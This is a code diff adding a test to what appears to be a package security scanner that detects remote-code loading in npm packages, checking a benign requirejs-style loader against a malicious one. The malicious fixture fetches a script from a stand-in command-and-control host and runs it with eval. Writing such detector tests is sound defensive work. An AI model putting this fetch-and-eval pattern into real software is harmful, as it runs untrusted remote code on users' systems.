@@ -313,3 +313,13 @@ test('a destructured country field looked up in a literal list gates a delete: s
   // A list lookup of something that is not a geo field is not a gate.
   assert.deepEqual(await gate("['XA', 'XB'].includes(process.argv[2])"), []);
 });
+
+test('a loader function assigned to require.load does not make every later require() remote data (requirejs r.js shape)', async () => {
+  const loader =
+    "require.load = function (context, name, url) {\n  var xhr = new XMLHttpRequest();\n  xhr.open('GET', url, true);\n  xhr.send();\n};\n" +
+    "var nodeFs = require('fs');\nvar vm = require('vm');\nfunction load(url) {\n  var contents = nodeFs.readFileSync(url, 'utf8');\n  vm.runInThisContext(contents, nodeFs.realpathSync(url));\n}\nmodule.exports = load;\n";
+  assert.deepEqual(await rules({ 'package.json': pkg({ bin: { r: 'r.js' } }), 'r.js': loader }), []);
+  // The same XHR response run by the same file is still remote code.
+  const evil = "var xhr = new XMLHttpRequest();\nxhr.open('GET', 'https://c2.invalid/x', false);\nxhr.send();\neval(xhr.responseText);\n";
+  assert.ok((await rules({ 'package.json': pkg({ main: 'r.js' }), 'r.js': evil })).some((r) => r.startsWith('content/remote-code:')));
+});
